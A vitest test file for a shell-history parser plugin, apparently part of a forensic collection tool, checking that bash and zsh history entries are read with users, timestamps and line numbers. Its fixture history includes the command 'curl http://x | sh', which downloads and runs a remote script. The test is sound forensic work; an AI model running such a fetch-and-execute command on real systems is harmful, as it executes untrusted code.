import { describe, expect, it } from "vitest";
import { dir } from "../../../../src/fs/memory.js";
import { runOnTarget } from "../../../../src/plugin/runner.js";
import { defaultRegistry } from "../../../../plugins/index.js";
import type { AnyRecord } from "../../../../src/records/descriptor.js";
import { silentLogger } from "../../../../src/util/log.js";
import { Target } from "../../../../src/target.js";

async function collect(t: Target, fn: string): Promise<AnyRecord[]> {
  const out: AnyRecord[] = [];
  await runOnTarget(t, defaultRegistry.resolve(fn).groups, defaultRegistry, { write: (r) => void out.push(r), close: async () => {} }, { log: silentLogger });
  return out;
}

describe("commandhistory", () => {
  it("reads bash (with HISTTIMEFORMAT stamps) and zsh extended histories", async () => {
    const t = Target.fromTree({
      "/etc": dir(),
      "/var": dir(),
      "/root/.bash_history": "#1709539200\nid\nwhoami\n#1709539260\ncurl http://x | sh\n",
      "/home/alice/.zsh_history": ": 1709625600:0;ls -la\nplain line\n",
    });
    const recs = await collect(t, "commandhistory");
    expect(recs.map((r) => [r.user, r.shell_name, r.command, String(r.ts), r.lineno])).toEqual([
      ["root", "bash", "id", "2024-03-04 08:00:00+00:00", 2],
      ["root", "bash", "whoami", "null", 3],
      ["root", "bash", "curl http://x | sh", "2024-03-04 08:01:00+00:00", 5],
      ["alice", "zsh", "ls -la", "2024-03-05 08:00:00+00:00", 1],
      ["alice", "zsh", "plain line", "null", 2],
    ]);
  });

  it("says why it does not apply", async () => {
    const t = Target.fromTree({ "/etc": dir(), "/var": dir() });
    const outcomes = await runOnTarget(t, defaultRegistry.resolve("commandhistory").groups, defaultRegistry, { write: () => {}, close: async () => {} }, { log: silentLogger });
    expect(outcomes[0]).toMatchObject({ status: "absent", reason: "no shell history files in /root or /home/*" });
  });
});
